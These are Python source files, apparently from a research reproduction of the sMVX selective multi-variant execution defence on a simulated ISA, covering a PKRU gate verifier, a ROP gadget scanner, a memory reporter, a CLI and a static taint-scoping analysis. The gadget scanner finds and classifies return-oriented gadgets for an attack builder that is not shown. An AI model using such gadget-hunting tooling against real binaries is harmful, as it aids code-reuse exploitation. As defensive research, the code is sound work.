                state = self._transfer(state, addr, instr)
                if addr in escape_sites:
                    # direct jump out of the function: the monitor key
                    # must be closed before control leaves
                    self._check_exit(state, addr,
                                     "jumps out of the function")
            for succ in block.successors:
                merged = (state if succ not in in_states
                          else in_states[succ].merge(state))
                if succ not in in_states \
                        or not merged.same_as(in_states[succ]):
                    in_states[succ] = merged
                    worklist.append(succ)
        return list(self._findings.values())


def analyze_gate(cfg: FunctionCFG, policy: GatePolicy,
                 resolve: Callable[[int], Optional[str]],
                 image_name: str = "") -> List[Finding]:
    """Prove the gate invariants over one function's CFG."""
    return _GateAnalysis(cfg, policy, resolve, image_name).run()


# ---------------------------------------------------------------------------
# wrpkru placement scans
# ---------------------------------------------------------------------------

def wrpkru_sites_in_image(image: ProgramImage
                          ) -> List[Tuple[str, int]]:
    """``(symbol, .text-relative address)`` of every WRPKRU in an image."""
    sites: List[Tuple[str, int]] = []
    for sym in image.function_symbols():
        if sym.section != ".text":
            continue
        body = image.sections[".text"][sym.offset:sym.offset + sym.size]
        for addr, instr in disassemble_bytes(body, base=sym.offset,
                                             skip_invalid=True):
            if instr.op is Op.WRPKRU:
                sites.append((sym.name, addr))
    return sites


def wrpkru_sites_in_space(space) -> Iterator[Tuple[int, str]]:
    """``(absolute address, page tag)`` of every WRPKRU slot in any
    executable page of a live address space (host-side page walk; XoM
    pages are readable to the verifier, exactly like offline analysis of
    the on-disk image would be)."""
    for base, page in space.mapped_pages():
        if not page.prot & PROT_EXEC:
            continue
        for addr, instr in disassemble_bytes(bytes(page.data), base=base,
                                             skip_invalid=True):
            if instr.op is Op.WRPKRU:
                yield addr, page.tag


# ---------------------------------------------------------------------------
# whole-monitor-image verification
# ---------------------------------------------------------------------------

def verify_monitor_image(image: ProgramImage,
                         policy: GatePolicy) -> List[Finding]:
    """Check the monitor image's gate discipline end to end:

    * the trampoline passes the dataflow proof;
    * no function other than the trampoline contains ``wrpkru``;
    * every interposition stub is exactly ``PUSH_I idx; JMP trampoline``;
    * every gate symbol is a high-level entry (``HLCALL``), i.e. the
      stack-pivoting reference monitor, not arbitrary ISA code.
    """
    findings: List[Finding] = []
    resolve = symbol_resolver(image)
    cfgs = image_cfgs(image)

    for sym_name, addr in wrpkru_sites_in_image(image):
        if sym_name != policy.trampoline_symbol:
            findings.append(Finding(
                "PKRU001", Severity.ERROR,
                f"wrpkru outside the blessed trampoline "
                f"(in {sym_name!r})", image=image.name,
                symbol=sym_name, address=addr))

    trampoline = cfgs.get(policy.trampoline_symbol)
    if trampoline is None:
        findings.append(Finding(
            "PKRU004", Severity.ERROR,
            f"monitor image has no trampoline symbol "
            f"{policy.trampoline_symbol!r}", image=image.name))
    else:
        findings.extend(analyze_gate(trampoline, policy,
                                     resolve, image.name))

    trampoline_sym = (image.symbol(policy.trampoline_symbol)
                      if image.has_symbol(policy.trampoline_symbol)
                      else None)
    for name, cfg in cfgs.items():
        if not name.startswith("smvx_stub_"):
            continue
        instrs = [instr for block in cfg.blocks.values()
                  for instr in block.instructions]
        ok = (len(instrs) >= 2
              and instrs[0][1].op is Op.PUSH_I
              and instrs[1][1].op is Op.JMP
              and trampoline_sym is not None
              and instrs[1][0] + INSTR_SIZE + instrs[1][1].imm
              == trampoline_sym.offset)
        if not ok:
            findings.append(Finding(
                "PKRU008", Severity.ERROR,
                "interposition stub does not funnel into the gate "
                "trampoline", image=image.name, symbol=name,
                address=cfg.entry))

    hl_names = {hl.name for hl in image.hl_functions}
    for gate in sorted(policy.gate_symbols):
        if not image.has_symbol(gate):
            continue   # stray-call check already covers unknown targets
        if gate not in hl_names:
            findings.append(Finding(
                "PKRU007", Severity.ERROR,
                f"gate symbol {gate!r} is not a high-level "
                f"(safe-stack-pivoting) monitor entry",
                image=image.name, symbol=gate))
    return findings
