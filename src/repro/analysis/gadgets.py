"""ROP gadget scanner (the Ropper / ROPGadget analogue, paper §4.2).

Scans executable pages for instruction sequences ending in ``RET`` and
classifies the useful shapes: ``pop <reg>; ret`` (argument loaders) and
short arithmetic gadgets.  The paper's exploit uses exactly three gadgets
— load a string pointer into ``%rdi``, pop an integer into ``%rsi``, and
jump to ``mkdir``'s PLT entry — and the attack builder in
``repro.attacks.rop`` consumes this scanner's output.

Because our ISA is fixed-width, gadgets are instruction-aligned suffixes
(DESIGN.md notes this divergence from variable-width x86, where misaligned
decodings add more gadgets; the attack only needs the aligned ones).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Tuple

from repro.machine.disasm import executable_words
from repro.machine.isa import INSTR_SIZE, Instruction, Op
from repro.machine.memory import AddressSpace


@dataclass(frozen=True)
class Gadget:
    """A candidate gadget: instructions ending in RET."""

    address: int
    instructions: Tuple[Instruction, ...]

    @property
    def text(self) -> str:
        return " ; ".join(instr.text() for instr in self.instructions)

    @property
    def length(self) -> int:
        return len(self.instructions)


def find_gadgets(space: AddressSpace, max_len: int = 3,
                 region: Optional[Tuple[int, int]] = None) -> List[Gadget]:
    """All instruction-aligned suffixes of length <= max_len ending in RET.

    ``region=(start, end)`` restricts the scan (e.g. to the application's
    .text, mirroring how an attacker analyzes the distributed binary but
    cannot read the randomized, execute-only monitor)."""
    decoded: Dict[int, Instruction] = {}
    for addr, instr in executable_words(space):
        if region is not None and not region[0] <= addr < region[1]:
            continue
        decoded[addr] = instr

    gadgets: List[Gadget] = []
    for addr, instr in decoded.items():
        if instr.op != Op.RET:
            continue
        for length in range(1, max_len + 1):
            start = addr - (length - 1) * INSTR_SIZE
            chain = []
            valid = True
            for i in range(length):
                candidate = decoded.get(start + i * INSTR_SIZE)
                if candidate is None:
                    valid = False
                    break
                # control flow mid-gadget would divert before the RET
                if i < length - 1 and candidate.op in (
                        Op.JMP, Op.JMP_R, Op.JMP_M, Op.CALL, Op.CALL_R,
                        Op.RET, Op.HLT, Op.HLCALL):
                    valid = False
                    break
                chain.append(candidate)
            if valid:
                gadgets.append(Gadget(start, tuple(chain)))
    return gadgets


def find_pop_reg_ret(gadgets: Iterable[Gadget], reg: str) -> Optional[Gadget]:
    """The classic argument-loading gadget: ``pop <reg> ; ret``."""
    for gadget in gadgets:
        if (gadget.length == 2
                and gadget.instructions[0].op == Op.POP_R
                and gadget.instructions[0].reg1 == reg
                and gadget.instructions[1].op == Op.RET):
            return gadget
    return None


def find_ret(gadgets: Iterable[Gadget]) -> Optional[Gadget]:
    for gadget in gadgets:
        if gadget.length == 1:
            return gadget
    return None


def classify_gadget(gadget: Gadget) -> str:
    """Coarse attacker-utility class of one gadget."""
    first = gadget.instructions[0]
    if gadget.length == 1:
        return "ret"
    if gadget.length == 2 and first.op == Op.POP_R:
        return f"pop-{first.reg1}-ret"
    if first.op in (Op.ADD_RI, Op.SUB_RI, Op.ADD_RR, Op.SUB_RR,
                    Op.XOR_RR, Op.XOR_RI, Op.AND_RI, Op.OR_RI,
                    Op.SHL_RI, Op.SHR_RI):
        return "arith-ret"
    if first.op in (Op.LOAD, Op.LOAD8):
        return "load-ret"
    if first.op in (Op.STORE, Op.STORE8):
        return "store-ret"
    if first.op in (Op.MOV_RR, Op.MOV_RI, Op.LEA):
        return "mov-ret"
    return "other"


def gadget_census(gadgets: Iterable[Gadget]) -> Dict[str, int]:
    """Histogram of gadget classes — the attack-surface summary the
    CLI prints and the §4.2 experiment's scanner sanity check."""
    census: Dict[str, int] = {}
    for gadget in gadgets:
        key = classify_gadget(gadget)
        census[key] = census.get(key, 0) + 1
    return dict(sorted(census.items()))
