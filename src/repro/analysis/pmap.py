"""pmap-style resident-set-size measurement.

The paper measures RSS with ``pmap`` after 10 HTTP requests (§4.1,
"Memory consumption saved"): Nginx 3208 KB under sMVX vs 6392 KB for two
vanilla copies; Lighttpd 1372 KB vs 2720 KB.  Our RSS is the number of
mapped pages in a process's address space — the simulator's direct
analogue, since every mapped page is "resident".
"""

from __future__ import annotations

from typing import Dict, List, Tuple

from repro.machine.memory import AddressSpace
from repro.process.process import GuestProcess


def rss_kb(process: GuestProcess) -> float:
    """Total RSS of a guest process, in KiB."""
    return process.space.resident_bytes() / 1024.0


def rss_of_space_kb(space: AddressSpace) -> float:
    return space.resident_bytes() / 1024.0


def rss_report(process: GuestProcess) -> Dict[str, float]:
    """KiB per mapping tag — pmap's per-mapping breakdown."""
    breakdown: Dict[str, float] = {}
    for _base, length, _prot, tag in process.space.mapped_regions():
        key = tag or "<anon>"
        breakdown[key] = breakdown.get(key, 0.0) + length / 1024.0
    return breakdown


def format_pmap(process: GuestProcess) -> str:
    """A pmap-like textual listing (address, size, perms, tag)."""
    lines = [f"{process.pid}:   {process.name}"]
    total = 0
    for base, length, prot, tag in process.space.mapped_regions():
        bits = "".join(("r" if prot & 1 else "-",
                        "w" if prot & 2 else "-",
                        "x" if prot & 4 else "-"))
        lines.append(f"{base:016x} {length // 1024:6d}K {bits}-   {tag}")
        total += length
    lines.append(f" total {total // 1024:6d}K")
    return "\n".join(lines)
