"""``python -m repro.analysis`` — one front door for the offline tools.

Subcommands mirror the external tools the paper leans on:

* ``callgraph`` — the r2pipe-style protected-subtree dump (Figure 2);
* ``gadgets``   — the Ropper/ROPGadget-style census over a booted app;
* ``pmap``      — the RSS breakdown used for Table 3;
* ``scope``     — the automatic selected-code-path derivation (static
  taint analysis; the libdft-ahead-of-time leg of the paper's
  selection pipeline);
* ``verify``    — the static MPK/interception/divergence verifier
  (equivalent to ``python -m repro.analysis.verify``).

Each subcommand takes a bundled app name (``minx``, ``littled``,
``nbench``); ``verify`` forwards its remaining arguments unchanged.
"""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional

from repro.analysis.verify import _bundled_apps


def _boot(app: str):
    """Boot a bundled app *without* the monitor; returns (process,
    loaded target image)."""
    from repro.kernel import Kernel
    kernel = Kernel()
    if app == "minx":
        from repro.apps.minx import MinxServer
        server = MinxServer(kernel)
        return server.process, server.loaded
    if app == "littled":
        from repro.apps.littled import LittledServer
        server = LittledServer(kernel)
        return server.process, server.loaded
    from repro.apps.nbench.workloads import (
        build_nbench_image,
        provision_nbench_files,
    )
    from repro.core import build_smvx_stub_image
    from repro.libc import build_libc_image
    from repro.process import GuestProcess
    provision_nbench_files(kernel.vfs)
    process = GuestProcess(kernel, "nbench", heap_pages=128)
    process.load_image(build_libc_image(), tag="libc")
    process.load_image(build_smvx_stub_image(), tag="libsmvx")
    loaded = process.load_image(build_nbench_image(), main=True)
    return process, loaded


def _cmd_callgraph(app: str, root: Optional[str]) -> int:
    from repro.analysis.callgraph import build_callgraph
    build, default_roots = _bundled_apps()[app]
    image = build()
    graph = build_callgraph(image)
    if root is None:
        for name in sorted(graph.edges):
            callees = ", ".join(sorted(graph.edges[name])) or "-"
            print(f"{name} -> {callees}")
        return 0
    subtree = graph.subtree(root)
    print(f"protected subtree of {root!r} "
          f"({len(subtree)} functions):")
    for name in sorted(subtree):
        print(f"  {name}")
    libc = sorted(graph.libc_reachable(root))
    print(f"libc reachable: {', '.join(libc) or '-'}")
    conservative = sorted(graph.indirect_sites(root))
    if conservative:
        print(f"indirect branches (coverage conservative): "
              f"{', '.join(conservative)}")
    return 0


def _cmd_gadgets(app: str, max_len: int) -> int:
    from repro.analysis.gadgets import find_gadgets, gadget_census
    process, loaded = _boot(app)
    start, size = loaded.section_range(".text")
    gadgets = find_gadgets(process.space, max_len=max_len,
                           region=(start, start + size))
    census = gadget_census(gadgets)
    print(f"{app}: {len(gadgets)} gadgets in .text "
          f"({start:#x}+{size:#x})")
    for kind, count in census.items():
        print(f"  {kind:>16}: {count}")
    return 0


def _cmd_pmap(app: str) -> int:
    from repro.analysis.pmap import format_pmap, rss_kb
    process, _loaded = _boot(app)
    print(format_pmap(process))
    print(f"total rss: {rss_kb(process):.1f} kB")
    return 0


def _cmd_scope(app: str, as_json: bool, strict: bool) -> int:
    """Run the automatic path-selection analysis on one bundled image.

    ``--strict`` is the derivation-consistency gate CI runs: a non-empty
    selection must produce a derived root whose subtree covers it, and
    linting the image against its *own* derived root must raise no
    SCOPE001 (missed tainted function) findings.
    """
    from repro.analysis.callgraph import build_callgraph
    from repro.analysis.findings import VerifyReport
    from repro.analysis.scope import compute_scope
    from repro.analysis.verify import check_scope_selection
    build, _default_roots = _bundled_apps()[app]
    image = build()
    scope = compute_scope(image)
    print(scope.to_json() if as_json else scope.format())
    if not strict:
        return 0
    problems = []
    if scope.selected and scope.derived_root is None:
        problems.append("non-empty selection but no covering "
                        "annotated root could be derived")
    if scope.derived_root is not None:
        subtree = build_callgraph(image).subtree(scope.derived_root)
        missed = scope.selected - subtree
        if missed:
            problems.append(f"derived root {scope.derived_root!r} does "
                            f"not cover: {', '.join(sorted(missed))}")
        lint = VerifyReport(target=image.name)
        check_scope_selection(image, (scope.derived_root,), lint,
                              scope_report=scope)
        for finding in lint.by_code("SCOPE001"):
            problems.append(f"self-lint: {finding.message}")
    for problem in problems:
        print(f"scope {app}: STRICT FAIL: {problem}", file=sys.stderr)
    if not problems:
        print(f"scope {app}: consistent "
              f"(root={scope.derived_root or '-'}, "
              f"{len(scope.selected)} selected)")
    return 1 if problems else 0


def main(argv: Optional[List[str]] = None) -> int:
    argv = sys.argv[1:] if argv is None else list(argv)
    parser = argparse.ArgumentParser(
        prog="python -m repro.analysis",
        description="Offline analysis tools for the sMVX repro")
    sub = parser.add_subparsers(dest="command", required=True)

    apps = sorted(_bundled_apps())
    p_cg = sub.add_parser("callgraph", help="call-graph / subtree dump")
    p_cg.add_argument("app", choices=apps)
    p_cg.add_argument("--root", help="print this root's protected subtree")

    p_g = sub.add_parser("gadgets", help="ROP gadget census over .text")
    p_g.add_argument("app", choices=apps)
    p_g.add_argument("--max-len", type=int, default=3)

    p_p = sub.add_parser("pmap", help="RSS breakdown of a booted app")
    p_p.add_argument("app", choices=apps)

    p_s = sub.add_parser("scope",
                         help="automatic selected-code-path derivation")
    p_s.add_argument("apps", nargs="*",
                     help="bundled apps (default: all)")
    p_s.add_argument("--json", action="store_true")
    p_s.add_argument("--strict", action="store_true",
                     help="exit non-zero unless the derivation is "
                          "self-consistent (CI gate)")

    sub.add_parser("verify", add_help=False,
                   help="static verifier (args forwarded)")

    if argv and argv[0] == "verify":
        from repro.analysis.verify import main as verify_main
        return verify_main(argv[1:])

    args = parser.parse_args(argv)
    if args.command == "callgraph":
        return _cmd_callgraph(args.app, args.root)
    if args.command == "gadgets":
        return _cmd_gadgets(args.app, args.max_len)
    if args.command == "scope":
        names = args.apps or apps
        exit_code = 0
        for name in names:
            if name not in apps:
                print(f"unknown app {name!r}; bundled: "
                      f"{', '.join(apps)}", file=sys.stderr)
                return 2
            exit_code = max(exit_code,
                            _cmd_scope(name, args.json, args.strict))
        return exit_code
    return _cmd_pmap(args.app)


if __name__ == "__main__":   # pragma: no cover - exercised via CLI tests
    sys.exit(main())
