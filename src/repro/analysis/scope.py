"""``repro.analysis.scope`` — automatic selected-code-path derivation.

The paper's defining idea is running MVX on *selected* code paths, and
its selection pipeline is a taint analysis: network input is the source,
every function the input can reach is sensitive, and the protected root
is the annotated region entry whose call subtree covers the sensitive
set.  The dynamic engine (:mod:`repro.taint`) reproduces the libdft leg
of that pipeline; this module is the *static* leg that predicts the set
ahead of any execution.

Pipeline
--------

1. **Sources** — walk every function's call edges (recovered by CFG
   disassembly for ISA functions, declared at image build for HL
   functions) and seed the functions that invoke a network-input libc
   entry (``recv``/``recvfrom`` — exactly the calls the kernel's
   ``io_taint_hook`` fires on, so the static and dynamic source sets
   coincide by construction).
2. **Interprocedural propagation** — forward closure over
   :mod:`repro.analysis.callgraph` edges: a callee of a tainted function
   receives (pointers to) tainted data and is tainted, carrying a
   source-to-function evidence path.  Indirect sites are narrowed through
   :mod:`repro.analysis.alias` pointer-table facts; a site the proof
   cannot pin down widens conservatively to every address-taken function
   (soundness over precision — the differential harness checks the
   direction).
3. **ISA refinement** — for real machine-code functions, an
   abstract-interpretation dataflow (worklist-to-fixpoint in the style of
   :mod:`repro.analysis.pkru`) tracks a taint bit and a constant address
   per register.  It can *prove a callee clean* (pure register
   computation: no memory read can observe tainted bytes) and it carries
   taint through **statically known memory slots**: a tainted register
   stored to a ``LEA``-derived ``.data``/``.bss`` address taints that
   slot image-wide, and any function loading from it becomes tainted even
   without a call-graph edge.  The slot set iterates to an image-level
   fixpoint.
4. **Classification** — TAINTED (selected), UNKNOWN (cannot be proven
   clean: transitive callers of tainted functions, which may observe
   tainted return values or shared structures, and functions with
   unresolved indirect calls), CLEAN (provably unreachable by any modeled
   flow).
5. **Root derivation** — candidates are the callees of functions that
   statically invoke ``mvx_start`` (the Listing-1 annotation is visible
   in the call graph); the derived root is the candidate with the
   smallest subtree that still covers the selected set.

Soundness limits (cross-checked by the differential gate in
:mod:`repro.analysis.differential`): taint is modeled as flowing along
call edges and statically known slots — a caller stashing a tainted
return value and passing it to a *later, otherwise-clean* callee
("post-return laundering"), and arithmetic laundering through int
conversions (the dynamic engine's own documented gap, DESIGN.md), are
outside the model.
"""

from __future__ import annotations

import enum
import json
from collections import deque
from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Optional, Set, Tuple

from repro.analysis.alias import AliasAnalysis, analyze_image_pointers
from repro.analysis.callgraph import INDIRECT, CallGraph, build_callgraph
from repro.analysis.cfg import FunctionCFG, function_cfg
from repro.loader.image import ProgramImage
from repro.machine.isa import INSTR_SIZE, Instruction, Op

#: libc entries that introduce network input — the taint sources.  This
#: matches the dynamic engine exactly: the kernel's ``io_taint_hook``
#: fires on socket reads, which the bundled libc routes through
#: ``recvfrom`` (``recv`` is sugar for it).
NETWORK_INPUT_LIBC = frozenset({"recv", "recvfrom"})

_PLT = "@plt"


class TaintClass(enum.Enum):
    """Three-valued verdict per function."""

    TAINTED = "tainted"      # selected: network input statically reaches it
    UNKNOWN = "unknown"      # cannot be proven clean
    CLEAN = "clean"          # provably outside every modeled flow


@dataclass(frozen=True)
class FunctionScope:
    """One function's verdict with its source-to-function evidence."""

    name: str
    classification: TaintClass
    #: evidence path from a source to this function (empty for CLEAN)
    evidence: Tuple[str, ...] = ()
    reason: str = ""

    def to_dict(self) -> Dict:
        return {"name": self.name,
                "classification": self.classification.value,
                "evidence": list(self.evidence),
                "reason": self.reason}


@dataclass
class ScopeReport:
    """The derived selected-code-path set of one image."""

    image: str
    functions: Dict[str, FunctionScope] = field(default_factory=dict)
    #: ``(function, libc_name)`` source seeds
    sources: Tuple[Tuple[str, str], ...] = ()
    #: annotated region-entry candidates (callees of mvx_start callers)
    root_candidates: Tuple[str, ...] = ()
    #: smallest covering candidate, or None (empty selection / no cover)
    derived_root: Optional[str] = None
    #: tainted functions containing an indirect site the alias proof
    #: could not resolve (selection was widened conservatively there)
    conservative_sites: Tuple[Tuple[str, str], ...] = ()
    #: base-0 image addresses of statically tainted memory slots
    tainted_slots: FrozenSet[int] = frozenset()

    def classification(self, name: str) -> TaintClass:
        scope = self.functions.get(name)
        return scope.classification if scope else TaintClass.CLEAN

    @property
    def selected(self) -> FrozenSet[str]:
        """The statically selected (to-be-replicated) function set."""
        return frozenset(
            name for name, scope in self.functions.items()
            if scope.classification is TaintClass.TAINTED)

    @property
    def unknown(self) -> FrozenSet[str]:
        return frozenset(
            name for name, scope in self.functions.items()
            if scope.classification is TaintClass.UNKNOWN)

    @property
    def clean(self) -> FrozenSet[str]:
        return frozenset(
            name for name, scope in self.functions.items()
            if scope.classification is TaintClass.CLEAN)

    def to_dict(self) -> Dict:
        return {
            "image": self.image,
            "sources": [list(pair) for pair in self.sources],
            "selected": sorted(self.selected),
            "unknown": sorted(self.unknown),
            "clean": sorted(self.clean),
            "derived_root": self.derived_root,
            "root_candidates": list(self.root_candidates),
            "conservative_sites": [list(pair)
                                   for pair in self.conservative_sites],
            "tainted_slots": sorted(self.tainted_slots),
            "functions": [self.functions[name].to_dict()
                          for name in sorted(self.functions)],
        }

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2, sort_keys=True)

    def format(self) -> str:
        lines = [f"scope {self.image}: {len(self.selected)} selected, "
                 f"{len(self.unknown)} unknown, {len(self.clean)} clean"]
        if self.sources:
            lines.append("  sources: " + ", ".join(
                f"{func} <- {libc}()" for func, libc in self.sources))
        lines.append(f"  derived root: {self.derived_root or '-'}"
                     + (f" (candidates: "
                        f"{', '.join(self.root_candidates)})"
                        if self.root_candidates else ""))
        for func, detail in self.conservative_sites:
            lines.append(f"  conservative: {func}: {detail}")
        for name in sorted(self.functions):
            scope = self.functions[name]
            tag = scope.classification.value.upper()
            lines.append(f"  {tag:>7} {name}")
            if scope.evidence:
                lines.append(f"          via "
                             f"{' -> '.join(scope.evidence)}")
        return "\n".join(lines)


# ---------------------------------------------------------------------------
# ISA refinement: register-taint + known-slot dataflow (pkru.py style)
# ---------------------------------------------------------------------------

@dataclass
class _IsaSummary:
    """What one dataflow run proved about an ISA function."""

    #: a memory read may observe tainted bytes in this calling context
    may_observe: bool = False
    #: statically known slots read while tainted (evidence)
    observed_slots: Set[int] = field(default_factory=set)
    #: statically known slots written with a possibly-tainted value
    tainted_writes: Set[int] = field(default_factory=set)


#: per-register abstract value: (address constant or None, taint bit)
_Value = Tuple[Optional[int], bool]


class _IsaTaintAnalysis:
    """Worklist abstract interpretation of one ISA function.

    The lattice is a product per register: a constant-address component
    (``LEA``-derived, widening to unknown on disagreeing joins — same
    discipline as the PKRU gate pass) and a may-taint bit (join is OR).
    ``tainted_entry`` models the calling context: invoked from a tainted
    caller, every incoming register — and the stack, and any memory a
    statically unknown pointer reaches — may carry taint.
    """

    def __init__(self, cfg: FunctionCFG, tainted_entry: bool,
                 tainted_slots: FrozenSet[int]):
        self.cfg = cfg
        self.tainted_entry = tainted_entry
        self.tainted_slots = tainted_slots
        self.summary = _IsaSummary()

    def _default(self) -> _Value:
        return (None, self.tainted_entry)

    def _slot_tainted(self, addr: int, size: int) -> bool:
        return any(addr + i in self.tainted_slots for i in range(size))

    def _transfer(self, regs: Dict[str, _Value], addr: int,
                  instr: Instruction) -> None:
        op = instr.op
        get = lambda reg: regs.get(reg, self._default())

        if op is Op.LEA:
            regs[instr.reg1] = (addr + INSTR_SIZE + instr.imm, False)
        elif op is Op.MOV_RI:
            regs[instr.reg1] = (None, False)
        elif op is Op.MOV_RR:
            regs[instr.reg1] = get(instr.reg2)
        elif op in (Op.ADD_RI, Op.SUB_RI):
            value, taint = get(instr.reg1)
            if value is not None:
                sign = 1 if op is Op.ADD_RI else -1
                value += sign * instr.imm
            regs[instr.reg1] = (value, taint)
        elif op in (Op.AND_RI, Op.OR_RI, Op.XOR_RI, Op.SHL_RI, Op.SHR_RI):
            _value, taint = get(instr.reg1)
            regs[instr.reg1] = (None, taint)
        elif op is Op.NOT_R:
            regs[instr.reg1] = (None, get(instr.reg1)[1])
        elif op is Op.XOR_RR and instr.reg1 == instr.reg2:
            regs[instr.reg1] = (None, False)
        elif op in (Op.ADD_RR, Op.SUB_RR, Op.AND_RR, Op.OR_RR,
                    Op.XOR_RR, Op.MUL_RR):
            regs[instr.reg1] = (None, get(instr.reg1)[1]
                                or get(instr.reg2)[1])
        elif op in (Op.LOAD, Op.LOAD8):
            base_value, _base_taint = get(instr.reg2)
            size = 8 if op is Op.LOAD else 1
            if base_value is not None:
                slot = base_value + instr.imm
                taint = self._slot_tainted(slot, size)
                if taint:
                    self.summary.may_observe = True
                    self.summary.observed_slots.add(slot)
                regs[instr.reg1] = (None, taint)
            else:
                # unknown pointer: in a tainted activation it may point
                # at tainted bytes (args, heap shared with the source)
                if self.tainted_entry:
                    self.summary.may_observe = True
                regs[instr.reg1] = (None, self.tainted_entry)
        elif op in (Op.STORE, Op.STORE8):
            base_value, _ = get(instr.reg1)
            _, src_taint = get(instr.reg2)
            if base_value is not None and src_taint:
                self.summary.tainted_writes.add(base_value + instr.imm)
        elif op is Op.POP_R:
            # the guest stack of a tainted activation may hold tainted
            # bytes (exactly what the CVE's overflow plants there)
            if self.tainted_entry:
                self.summary.may_observe = True
            regs[instr.reg1] = (None, self.tainted_entry)
        elif op in (Op.CALL, Op.HLCALL, Op.CALL_R):
            regs.clear()              # callee clobbers; defaults re-apply
        elif op in (Op.SYSCALL, Op.RDPKRU):
            regs["rax"] = (None, self.tainted_entry)

    # -- driver ------------------------------------------------------------

    def run(self) -> _IsaSummary:
        cfg = self.cfg
        in_states: Dict[int, Dict[str, _Value]] = {cfg.entry: {}}
        worklist = [cfg.entry]

        def merge(left: Dict[str, _Value],
                  right: Dict[str, _Value]) -> Dict[str, _Value]:
            merged: Dict[str, _Value] = {}
            for reg in set(left) | set(right):
                lv, lt = left.get(reg, self._default())
                rv, rt = right.get(reg, self._default())
                merged[reg] = (lv if lv == rv else None, lt or rt)
            return merged

        while worklist:
            start = worklist.pop()
            block = cfg.blocks.get(start)
            if block is None:
                continue
            regs = dict(in_states[start])
            for addr, instr in block.instructions:
                self._transfer(regs, addr, instr)
            for succ in block.successors:
                if succ not in in_states:
                    in_states[succ] = dict(regs)
                    worklist.append(succ)
                else:
                    merged = merge(in_states[succ], regs)
                    if merged != in_states[succ]:
                        in_states[succ] = merged
                        worklist.append(succ)
        return self.summary


def _isa_summary(cfg: FunctionCFG, tainted_entry: bool,
                 tainted_slots: FrozenSet[int]) -> _IsaSummary:
    return _IsaTaintAnalysis(cfg, tainted_entry, tainted_slots).run()


# ---------------------------------------------------------------------------
# the interprocedural driver
# ---------------------------------------------------------------------------

def _network_sources(graph: CallGraph,
                     defined: List[str]) -> List[Tuple[str, str]]:
    sources = []
    for func in defined:
        for callee in sorted(graph.callees(func)):
            if callee.endswith(_PLT) \
                    and callee[:-len(_PLT)] in NETWORK_INPUT_LIBC:
                sources.append((func, callee[:-len(_PLT)]))
                break
    return sources


def derive_root(graph: CallGraph,
                selected: FrozenSet[str]
                ) -> Tuple[Optional[str], Tuple[str, ...]]:
    """Pick the annotated region entry whose subtree covers ``selected``.

    Candidates are callees of functions that statically call
    ``mvx_start`` (the Listing-1 annotation pattern: the *caller* opens
    the region around the call).  Returns ``(root, candidates)``; root is
    the minimal-subtree covering candidate, or None when the selection is
    empty or nothing annotated covers it.
    """
    candidates: Set[str] = set()
    for func, callees in graph.edges.items():
        if not ({"mvx_start", f"mvx_start{_PLT}"} & callees):
            continue
        for callee in callees:
            if callee in graph.edges and not callee.endswith(_PLT) \
                    and not callee.startswith("mvx_"):
                candidates.add(callee)
    ordered = tuple(sorted(candidates))
    if not selected:
        return None, ordered
    covering = [name for name in ordered
                if selected <= frozenset(graph.subtree(name))]
    if not covering:
        return None, ordered
    root = min(covering, key=lambda name: (len(graph.subtree(name)), name))
    return root, ordered


def compute_scope(image: ProgramImage,
                  alias: Optional[AliasAnalysis] = None) -> ScopeReport:
    """Run the full static selection pipeline over one image."""
    if alias is None:
        alias = analyze_image_pointers(image)
    graph = build_callgraph(image, alias)
    hl_names = {hl.name for hl in image.hl_functions}
    defined = [sym.name for sym in image.function_symbols()
               if sym.section == ".text"]
    cfgs = {name: function_cfg(image, image.symbol(name))
            for name in defined if name not in hl_names}

    sources = _network_sources(graph, defined)
    klass: Dict[str, TaintClass] = {}
    evidence: Dict[str, Tuple[str, ...]] = {}
    reasons: Dict[str, str] = {}
    tainted_slots: Set[int] = set()
    slot_writer: Dict[int, str] = {}
    conservative: List[Tuple[str, str]] = []
    widened: Set[str] = set()
    work: deque = deque()

    def mark_tainted(name: str, path: Tuple[str, ...],
                     reason: str) -> bool:
        if klass.get(name) is TaintClass.TAINTED:
            return False
        klass[name] = TaintClass.TAINTED
        evidence[name] = path
        reasons[name] = reason
        work.append(name)
        return True

    for func, libc in sources:
        mark_tainted(func, (f"{libc}{_PLT}", func),
                     f"calls network input {libc}()")

    # widening target set for unresolved indirect calls in tainted code:
    # the alias analysis's address-taken set when it is exhaustive for
    # static pointers, every defined function otherwise
    if alias.address_taken and alias.exhaustive_for_data:
        indirect_pool = sorted(alias.address_taken)
    else:
        indirect_pool = sorted(defined)

    # interprocedural fixpoint: call-edge propagation interleaved with
    # the ISA slot dataflow (new tainted slots can taint new functions,
    # which can taint new slots, ...)
    while True:
        while work:
            func = work.popleft()
            path = evidence[func]
            for callee in sorted(graph.callees(func)):
                if callee == INDIRECT or callee.endswith(_PLT):
                    continue
                if callee not in graph.edges:
                    continue          # undeclared external
                if callee in cfgs and not _isa_summary(
                        cfgs[callee], True,
                        frozenset(tainted_slots)).may_observe:
                    # proven pure in a tainted context: no memory read
                    # can observe tainted bytes
                    klass.setdefault(callee, TaintClass.CLEAN)
                    reasons.setdefault(
                        callee,
                        "proven clean by register dataflow: no memory "
                        "read in a tainted context")
                    continue
                mark_tainted(callee, path + (callee,),
                             f"callee of tainted {func!r}")
            if INDIRECT in graph.callees(func) and func not in widened:
                widened.add(func)
                conservative.append(
                    (func, "unresolved indirect call in tainted code; "
                           "selection widened to "
                           f"{len(indirect_pool)} address-taken "
                           "function(s)"))
                for target in indirect_pool:
                    if target in graph.edges and target != func:
                        mark_tainted(
                            target, path + ("<indirect>", target),
                            f"conservative target of an unresolved "
                            f"indirect call in {func!r}")

        # ISA slot pass: tainted functions' stores taint known slots;
        # any function loading a tainted slot becomes tainted
        progress = False
        frozen_slots = frozenset(tainted_slots)
        for name, cfg in cfgs.items():
            summary = _isa_summary(
                cfg, klass.get(name) is TaintClass.TAINTED, frozen_slots)
            if klass.get(name) is TaintClass.TAINTED:
                for slot in summary.tainted_writes:
                    if slot not in tainted_slots:
                        tainted_slots.add(slot)
                        slot_writer[slot] = name
                        progress = True
            elif summary.observed_slots:
                slot = min(summary.observed_slots)
                writer = slot_writer.get(slot, "?")
                base = evidence.get(writer, (writer,))
                if mark_tainted(name, base + (f"slot@{slot:#x}", name),
                                f"loads statically tainted slot "
